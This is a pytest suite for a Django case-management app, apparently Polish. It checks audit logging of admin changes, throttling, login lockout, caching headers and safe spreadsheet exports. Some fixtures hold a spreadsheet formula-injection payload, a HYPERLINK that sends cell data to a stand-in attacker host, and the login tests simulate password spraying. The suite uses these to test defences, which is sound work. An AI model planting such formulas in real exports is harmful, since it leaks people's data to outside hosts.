"""The administrator and the edges (issue 11, section 4): the admin, exports, the public
verification page, statistics, sign-in, caching and the password page."""

import datetime

import pytest
from django.contrib.auth import get_user_model
from django_otp.plugins.otp_totp.models import TOTPDevice
from viewflow.workflow.models import Task
from viewflow.workflow.status import STATUS

from audit.models import AuditEvent
from tests.conftest import use_language
from tests.factories import UserFactory
from tests.scenarios import drive
from workflows.models import AuditorScope, Professional, Stage, TeamMember

pytestmark = pytest.mark.django_db


@pytest.fixture
def root(client):
    """A signed-in administrator (superuser)."""
    user = get_user_model().objects.create_superuser("root", "root@example.org", "x-Pass-123-x")
    client.force_login(user)
    return user


def _events(action, since=0):
    return list(AuditEvent.objects.filter(action=action, pk__gt=since).order_by("pk"))


def _mark():
    last = AuditEvent.objects.order_by("-pk").first()
    return last.pk if last else 0


# --- viewflow's own admin -------------------------------------------------------------------


def test_the_admin_cannot_delete_or_edit_an_open_task(client, world, root):
    procedure = drive(world, to=Stage.WITH_CHAIR)
    task = Task.objects.filter(process=procedure.process, status=STATUS.NEW).first() or (
        Task.objects.filter(process=procedure.process).exclude(status=STATUS.DONE).first()
    )
    assert task is not None
    before = AuditEvent.objects.count()

    assert client.get("/admin/workflow/task/").status_code == 404
    assert client.get("/admin/workflow/process/").status_code == 404
    for url, data in (
        (f"/admin/workflow/task/{task.pk}/delete/", {"post": "yes"}),
        (f"/admin/workflow/process/{procedure.process_id}/delete/", {"post": "yes"}),
        (f"/admin/workflow/task/{task.pk}/change/", {"status": "DONE"}),
    ):
        assert client.post(url, data).status_code == 404

    task.refresh_from_db()
    assert task.status not in (STATUS.DONE, STATUS.CANCELED)
    assert Task.objects.filter(pk=task.pk).exists()
    assert AuditEvent.objects.count() == before


# --- every administrative change is an event -----------------------------------------------


def test_an_administrator_making_themselves_auditor_of_everything_leaves_a_trace(client, root):
    response = client.post(
        "/admin/workflows/auditorscope/add/",
        {"user": root.pk, "institution": "Ja", "municipality": "", "county": ""},
        REMOTE_ADDR="203.0.113.7",
    )
    assert response.status_code == 302
    scope = AuditorScope.objects.get(user=root)
    [event] = _events("admin.auditorscope.created")
    assert event.actor == root
    assert event.client == "203.0.113.7"
    assert event.payload["object"] == scope.pk and event.payload["user"] == root.pk
    assert event.payload["after"] == {
        "user": root.pk,
        "institution": "Ja",
        "municipality": None,
        "county": "",
    }

    # Once an auditor, they change nothing; another administrator removes the scope: an event.
    other = get_user_model().objects.create_superuser("root2", "r2@example.org", "x-Pass-123-y")
    client.force_login(other)
    response = client.post(
        f"/admin/workflows/auditorscope/{scope.pk}/delete/", {"post": "yes"}, REMOTE_ADDR="::1"
    )
    assert response.status_code == 302
    assert not AuditorScope.objects.filter(pk=scope.pk).exists()
    [deleted] = _events("admin.auditorscope.deleted")
    assert deleted.actor == other and deleted.client == "::1"
    assert deleted.payload["before"]["institution"] == "Ja"


def test_a_backdated_confidentiality_declaration_records_before_and_after(client, world, root):
    professional = world.teacher.professional
    old = professional.confidentiality_declared_on
    response = client.post(
        f"/admin/workflows/professional/{professional.pk}/change/",
        {
            "user": world.teacher.pk,
            "municipality": professional.municipality_id,
            "sector": professional.sector,
            "profession": professional.profession,
            "institution": professional.institution,
            "confidentiality_declared_on": "2020-01-02",
        },
    )
    assert response.status_code == 302
    [event] = _events("admin.professional.changed")
    assert event.actor == root
    assert event.payload["fields"] == ["confidentiality_declared_on"]
    assert event.payload["before"] == {
        "confidentiality_declared_on": old.isoformat() if old else None
    }
    assert event.payload["after"] == {"confidentiality_declared_on": "2020-01-02"}
    # Saving again without a change writes nothing.
    professional.refresh_from_db()
    professional.save()
    assert len(_events("admin.professional.changed")) == 1


def test_team_membership_changes_through_the_team_page_are_events(client, world, root):
    membership = TeamMember.objects.get(professional=world.police_officer.professional)
    membership.delete()
    [event] = _events("admin.teammember.deleted")
    # Outside a request (a shell, a command): no actor and no address, but the event is there.
    assert event.actor is None and event.client == ""
    assert event.payload["before"]["professional"] == world.police_officer.professional.pk

    mark = _mark()
    TeamMember.objects.create(team=world.team, professional=world.teacher.professional)
    [created] = _events("admin.teammember.created", since=mark)
    assert created.payload["after"]["team"] == world.team.pk


def test_centre_staff_and_second_factor_devices_are_audited_without_the_key(client, world, root):
    from centre.models import Centre, CentreStaff

    centre = Centre.objects.create(
        name="OIK Testowo", county="powiat testowy", municipality=world.team.municipality
    )
    CentreStaff.objects.create(user=world.oik_psychologist, centre=centre, function="psycholog")
    assert _events("admin.centrestaff.created")

    device = TOTPDevice.objects.create(user=world.chair, name="telefon", confirmed=True)
    [created] = _events("admin.totpdevice.created")
    assert device.key not in str(created.payload)
    # Using the device (counters, drift) is not an administrative change.
    device.last_t = 12345
    device.save()
    assert not _events("admin.totpdevice.changed")

    response = client.post(
        f"/admin/otp_totp/totpdevice/{device.pk}/delete/", {"post": "yes"}, REMOTE_ADDR="10.0.0.9"
    )
    assert response.status_code == 302
    [deleted] = _events("admin.totpdevice.deleted")
    assert deleted.actor == root and deleted.client == "10.0.0.9"
    assert deleted.payload["user"] == world.chair.pk
    assert device.key not in str(deleted.payload)


def test_a_password_reset_by_the_administrator_is_an_event_without_the_password(
    client, world, root
):
    response = client.post(
        f"/admin/auth/user/{world.chair.pk}/password/",
        {"password1": "Nowe-Haslo-2026!", "password2": "Nowe-Haslo-2026!"},
    )
    assert response.status_code == 302
    [event] = _events("auth.password_changed")[-1:]
    assert event.actor == root and event.payload["user"] == world.chair.pk
    world.chair.refresh_from_db()
    assert world.chair.password not in str(event.payload)
    assert "Nowe-Haslo" not in str(AuditEvent.objects.filter(pk__gte=event.pk).values())


def test_granting_superuser_rights_is_an_event(world):
    user = UserFactory(username="kandydat")
    mark = _mark()
    user.is_superuser = True
    user.save()
    [event] = _events("admin.user.changed", since=mark)
    assert event.payload["fields"] == ["is_superuser"]
    assert event.payload["before"] == {"is_superuser": False}
    assert event.payload["after"] == {"is_superuser": True}
    assert Professional.objects.filter(user=user).count() == 0


# --- the public verification page ----------------------------------------------------------


def test_guessing_on_the_verification_page_is_throttled_and_writes_few_events(client, settings):
    settings.OIK_VERIFY_RATE = "5/h"
    for n in range(5):
        response = client.post(
            "/documents/verify/", {"code": f"{n:064x}"}, REMOTE_ADDR="198.51.100.1"
        )
        assert response.status_code == 200 and not response.context["result"].known
    for _ in range(20):
        response = client.post("/documents/verify/", {"code": "f" * 64}, REMOTE_ADDR="198.51.100.1")
        assert response.status_code == 429
    assert "Zbyt wiele prób z Twojego adresu" in response.content.decode()

    # Five unknown guesses: one event carrying the count; twenty refusals: one event.
    [unknown] = _events("document.verification_unknown")
    assert unknown.payload["count_this_hour"] == 1 and unknown.client == "198.51.100.1"
    assert len(_events("document.verification_throttled")) == 1
    assert not _events("document.verified")

    # Another client is not affected.
    other = client.post("/documents/verify/", {"code": "e" * 64}, REMOTE_ADDR="198.51.100.2")
    assert other.status_code == 200


def test_ten_unknown_guesses_are_counted_in_a_second_event(client, settings):
    settings.OIK_VERIFY_RATE = "100/h"
    for n in range(12):
        client.post("/documents/verify/", {"code": f"{n:064x}"})
    assert [e.payload["count_this_hour"] for e in _events("document.verification_unknown")] == [
        1,
        10,
    ]


class _UnreadableBody:
    """A request body that fails the test if anything reads it."""

    read_called = False

    def read(self, *args):
        _UnreadableBody.read_called = True
        raise AssertionError("the body was read")

    readline = read


def test_an_oversized_upload_is_refused_before_its_body_is_read(client):
    response = client.post(
        "/documents/verify/",
        data=b"",
        content_type="multipart/form-data; boundary=xyz",
        CONTENT_LENGTH=str(300 * 1024 * 1024),
        **{"wsgi.input": _UnreadableBody()},
    )
    assert response.status_code == 413
    assert not _UnreadableBody.read_called
    assert "Plik jest zbyt duży" in response.content.decode()
    assert not _events("document.verified") and not _events("document.verification_unknown")


def test_an_upload_without_a_length_stops_at_the_limit(rf, settings):
    from django.http.multipartparser import MultiPartParser

    from documents.middleware import SizeLimitUploadHandler

    settings.OIK_VERIFY_MAX_UPLOAD_MB = 1
    boundary = "xyz"
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n'
            "Content-Type: application/pdf\r\n\r\n"
        ).encode()
        + b"%PDF"
        + b"0" * (3 * 1024 * 1024)
        + f"\r\n--{boundary}--\r\n".encode()
    )
    request = rf.post("/documents/verify/", data=body, content_type="multipart/form-data")
    handler = SizeLimitUploadHandler(request, limit=1024 * 1024)
    parser = MultiPartParser(
        {"CONTENT_TYPE": f"multipart/form-data; boundary={boundary}", "CONTENT_LENGTH": len(body)},
        request,
        [handler],
    )
    _post, files = parser.parse()
    assert "file" not in files
    assert request.upload_too_large
    assert handler.received <= 1024 * 1024 + 64 * 1024


# --- sign-in ---------------------------------------------------------------------------------


def _login(client, username, password, address):
    return client.post("/login/", {"username": username, "password": password}, REMOTE_ADDR=address)


def test_wrong_passwords_from_one_address_do_not_lock_the_chair_out_elsewhere(client, world):
    from django.conf import settings

    for _ in range(settings.AXES_FAILURE_LIMIT + 2):
        _login(client, "chair", "zgadywane-haslo", "203.0.113.66")
    assert _login(client, "chair", "correct-horse-battery", "203.0.113.66").status_code == 429
    assert "_auth_user_id" not in client.session

    # The chair, at the office, signs in as usual.
    response = _login(client, "chair", "correct-horse-battery", "192.0.2.10")
    assert response.status_code == 302
    assert client.session["_auth_user_id"] == str(world.chair.pk)


def test_spraying_one_password_across_accounts_from_one_address_is_blocked(client, world, settings):
    settings.OIK_LOGIN_ADDRESS_FAILURE_RATE = "5/15m"
    accounts = [UserFactory(username=f"pracownik{n}").username for n in range(8)]
    statuses = [
        _login(client, name, "Wiosna2026!", "198.51.100.9").status_code for name in accounts
    ]
    # Each account saw one failure only, far from its own lockout; the address is stopped.
    assert statuses[:5] == [200] * 5
    assert statuses[5:] == [429] * 3
    blocked = _login(client, "chair", "correct-horse-battery", "198.51.100.9")
    assert blocked.status_code == 429 and "_auth_user_id" not in client.session
    assert "Zbyt wiele nieudanych prób logowania z Twojego adresu" in blocked.content.decode()
    # The refused attempts were not even tried against an account.
    from axes.models import AccessAttempt

    assert AccessAttempt.objects.filter(ip_address="198.51.100.9").count() == 5
    # Another address is not affected.
    assert _login(client, "chair", "correct-horse-battery", "192.0.2.10").status_code == 302


# --- no-store ----------------------------------------------------------------------------------


def test_signed_in_pages_are_never_stored(client, world):
    # Downloads set no-store themselves (documents.views.pdf_response; asserted in
    # tests/test_centre.py::test_a_correctional_group_answers_the_referral_and_certifies_it).
    procedure = drive(world, to=Stage.WITH_CHAIR)
    client.force_login(world.chair)
    for url in ("/dashboard/", f"/procedures/{procedure.pk}/", "/password/"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert "no-store" in response["Cache-Control"], url
        assert "private" in response["Cache-Control"], url
    client.logout()
    # The public pages of an anonymous visitor may be cached.
    assert "no-store" not in client.get("/documents/verify/").get("Cache-Control", "")


# --- password change -------------------------------------------------------------------------


def test_a_signed_in_user_changes_their_password_and_it_is_an_event(client, world):
    client.force_login(world.social_worker)
    page = client.get("/password/")
    assert page.status_code == 200 and "Zmień hasło" in page.content.decode()
    inbox = client.get("/", follow=True).content.decode()
    assert 'href="/password/"' in inbox
    mark = _mark()

    refused = client.post(
        "/password/",
        {
            "old_password": "zle-haslo",
            "new_password1": "Bardzo-Dlugie-Haslo-7",
            "new_password2": "Bardzo-Dlugie-Haslo-7",
        },
    )
    assert refused.status_code == 200 and refused.context["form"].errors["old_password"]
    world.social_worker.refresh_from_db()
    assert world.social_worker.check_password("correct-horse-battery")
    assert not _events("auth.password_changed", since=mark)

    response = client.post(
        "/password/",
        {
            "old_password": "correct-horse-battery",
            "new_password1": "Bardzo-Dlugie-Haslo-7",
            "new_password2": "Bardzo-Dlugie-Haslo-7",
        },
        REMOTE_ADDR="192.0.2.44",
    )
    assert response.status_code == 302 and response["Location"] == "/password/done/"
    world.social_worker.refresh_from_db()
    assert world.social_worker.check_password("Bardzo-Dlugie-Haslo-7")
    [event] = _events("auth.password_changed", since=mark)
    assert event.actor == world.social_worker and event.client == "192.0.2.44"
    assert event.payload == {"object": world.social_worker.pk, "user": world.social_worker.pk}
    # Still signed in.
    assert client.get("/password/done/").status_code == 200


# --- centre statistics and exports -----------------------------------------------------------


@pytest.fixture
def centre(world):
    from centre.models import Centre, CentreStaff

    centre = Centre.objects.create(
        name='=HYPERLINK("http://zly.example/?x="&A1,"Kliknij")',
        county="powiat testowy",
        municipality=world.team.municipality,
        address="ul. Jawna 1, 00-001 Testowo",
    )
    # The psychologist sits on the team; the night duty worker takes no part in procedures.
    CentreStaff.objects.create(user=world.oik_psychologist, centre=centre, function="psycholog")
    night = UserFactory(username="dyzurny", first_name="Nocny", last_name="Dyżur")
    CentreStaff.objects.create(user=night, centre=centre, function="dyżur nocny")
    return centre


def _day_window(client, language="en"):
    today = datetime.date.today().isoformat()
    use_language(client, language)
    return client.get(f"/centre/statistics/?start={today}&end={today}")


def test_one_day_of_procedure_figures_is_suppressed_for_staff_outside_procedures(
    client, world, centre
):
    from django.contrib.auth import get_user_model

    drive(world, to=Stage.ACTIONS, child_witness=True)
    night = get_user_model().objects.get(username="dyzurny")

    client.force_login(night)
    response = _day_window(client)
    stats = response.context["stats"]
    assert stats.value("procedures", "NK-A filled") == "<3"
    assert stats.value("procedures", "girls") == "<3"
    assert stats.value("nka_by_sector", "education") == "<3"
    assert stats.value("nka_by_sector", "Police") == 0  # a zero reveals no one
    page = _day_window(client, "pl").content.decode()
    assert "&lt;3" in page and "oznacza liczbę od 1 do 2" in page
    assert "nka_by_sector" not in response.context["charts"]
    # The export says the same.
    today = datetime.date.today().isoformat()
    exported = client.get(f"/centre/statistics/?start={today}&end={today}&export=csv")
    assert "NK-A filled" not in exported.content.decode()  # Polish headers
    assert "<3" in exported.content.decode()

    # Someone who works in the procedures sees the figures.
    client.force_login(world.oik_psychologist)
    stats = _day_window(client).context["stats"]
    assert stats.value("procedures", "NK-A filled") == 1
    assert stats.value("nka_by_sector", "education") == 1


def test_the_minimum_cell_is_a_setting(client, world, centre, settings):
    from django.contrib.auth import get_user_model

    settings.OIK_STATISTICS_MIN_CELL = 5
    for _ in range(3):
        drive(world, to=Stage.INITIATED)
    client.force_login(get_user_model().objects.get(username="dyzurny"))
    stats = _day_window(client).context["stats"]
    assert stats.value("procedures", "NK-A filled") == "<5"
    # The centre's own figures are never suppressed.
    assert stats.value("summary", "consultations") == 0


def test_a_centre_name_that_is_a_formula_is_exported_as_text(client, world, centre):
    import io

    import openpyxl

    client.force_login(world.oik_psychologist)
    base = "/centre/statistics/?start=2024-01-01&end=2025-12-31&export="
    text = client.get(base + "csv").content.decode()
    xlsx = client.get(base + "xlsx").content
    # XLSX: the name is a text cell, exactly as typed, never a formula.
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx))
    cell = workbook.worksheets[0]["A1"]
    assert cell.data_type == "s"
    assert cell.value.startswith(centre.name)
    assert b"<f>" not in xlsx  # no formula anywhere in the workbook's XML
    import zipfile

    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet for sheet in sheets)
    # CSV: the name is prefixed with an apostrophe, so no spreadsheet runs it.
    assert f"'{centre.name}".replace('"', '""') in text
    assert '"=HYPERLINK' not in text and ",=HYPERLINK" not in text


def test_every_csv_cell_that_a_spreadsheet_would_run_is_text():
    import io

    from core.exports import SafeCSVWriter

    buffer = io.StringIO()
    SafeCSVWriter(buffer).writerows(
        [["=1+1", "+48 600", "-2+3", "@SUM(A1)", "\t=x", "\r=x", "zwykły", 5, -3]]
    )
    assert buffer.getvalue().strip() == "'=1+1,'+48 600,'-2+3,'@SUM(A1),'\t=x,\"'\r=x\",zwykły,5,-3"


def test_the_audit_timeline_csv_writes_a_formula_name_as_text(client, world):
    procedure = drive(world, to=Stage.WITH_CHAIR)
    world.teacher.first_name = '=HYPERLINK("http://zly.example")'
    world.teacher.save()
    client.force_login(world.chair)
    response = client.get(f"/procedures/{procedure.pk}/timeline/?export=csv")
    assert response.status_code == 200
    text = response.content.decode()
    assert "'=HYPERLINK" in text
    assert ",=HYPERLINK" not in text and '"=HYPERLINK' not in text


def test_a_superscript_digit_is_an_invalid_choice_not_a_server_error():
    """Found by the fuzz on PostgreSQL: "¹" passes ``str.isdigit`` but not ``int``."""
    from django import forms as django_forms

    from core.fields import RecordChoiceField
    from workflows.models import Professional

    field = RecordChoiceField(queryset=Professional.objects.none())
    for value in ("¹", "٣", "1²"):
        with pytest.raises(django_forms.ValidationError):
            field.clean(value)
